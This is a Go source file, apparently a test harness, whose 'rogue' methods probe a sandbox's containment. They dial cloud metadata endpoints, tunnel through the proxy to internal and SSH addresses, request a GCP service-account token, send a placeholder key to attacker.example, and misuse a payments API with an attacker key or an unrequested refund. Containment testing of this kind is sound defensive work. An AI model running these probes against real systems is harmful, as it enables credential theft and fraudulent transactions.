package demo

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// knock is how long a connection may take: where there is no network, none takes any time.
const knock = 2 * time.Second

// network goes straight to where a program on the machine could go.
func (r *rogue) network(ctx context.Context) haul {
	h := haul{Try: "network"}
	d := net.Dialer{Timeout: knock}
	for _, place := range []string{"169.254.169.254:80", "[fd00:ec2::254]:80", "1.1.1.1:443", r.env("EBB_ITSELF"), r.env("PAY_ADDRESS")} {
		if c, err := d.DialContext(ctx, "tcp", place); err == nil {
			_ = c.Close()
			h.Got += " " + place
		}
	}
	return h
}

// names asks name servers, which hear what is asked: those of the system for a name that
// exists, and one that listens on this machine.
func (r *rogue) names(ctx context.Context) haul {
	h := haul{Try: "names"}
	ctx, cancel := context.WithTimeout(ctx, 2*knock)
	defer cancel()
	if found, err := (&net.Resolver{PreferGo: true}).LookupHost(ctx, "example.com"); err == nil {
		h.Got = strings.Join(found, " ")
	}
	if answer := whisper(ctx, r.env("EAR"), r.key); answer != "" {
		h.Got += " " + answer
	}
	return h
}

// whisper sends one datagram, and is what comes back within a knock.
func whisper(ctx context.Context, place, what string) string {
	c, err := (&net.Dialer{}).DialContext(ctx, "udp", place)
	if err != nil {
		return ""
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(knock))
	if _, err := c.Write([]byte(what)); err != nil {
		return ""
	}
	buf := make([]byte, 512)
	n, err := c.Read(buf)
	if err != nil {
		return ""
	}
	return string(buf[:n])
}

// proxy asks the way out for what it is not for.
func (r *rogue) proxy(ctx context.Context) haul {
	h := haul{Try: "proxy"}
	for _, place := range []string{"169.254.169.254:80", "127.0.0.1:22", "[::ffff:10.0.0.1]:443", r.env("EBB_ITSELF")} {
		h.Got += " " + r.tunnel(ctx, place)
	}
	return h
}

// metadata asks the way out for a cloud's metadata service by its name.
func (r *rogue) metadata(ctx context.Context) haul {
	return r.show(ctx, "metadata", "https://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")
}

// elsewhere shows the placeholder to a host of its own.
func (r *rogue) elsewhere(ctx context.Context) haul {
	return r.show(ctx, "elsewhere", "https://attacker.example/collect")
}

// unescorted brings an account of its own, where somebody else would read the answers.
func (r *rogue) unescorted(ctx context.Context) haul {
	return r.request(ctx, "unescorted", http.MethodGet, chargePath, "Bearer pk_of_the_attacker")
}

// beyond uses the placeholder for what it is not for.
func (r *rogue) beyond(ctx context.Context) haul {
	return r.request(ctx, "beyond", http.MethodPost, "/v1/charges/42/refund", "Bearer "+r.key)
}

// query puts the placeholder where servers log it.
func (r *rogue) query(ctx context.Context) haul {
	return r.request(ctx, "query", http.MethodGet, chargePath+"?note="+url.QueryEscape(r.key), "Bearer "+r.key)
}

// tunnel asks the proxy for one and says with what status it answers.
func (r *rogue) tunnel(ctx context.Context, place string) string {
	proxy, err := url.Parse(r.env("HTTPS_PROXY"))
	if err != nil {
		return "none"
	}
	c, err := (&net.Dialer{Timeout: knock}).DialContext(ctx, "tcp", proxy.Host)
	if err != nil {
		return "none"
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintf(c, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", place); err != nil {
		return "none"
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return "none"
	}
	defer resp.Body.Close()
	return fmt.Sprint(resp.StatusCode)
}
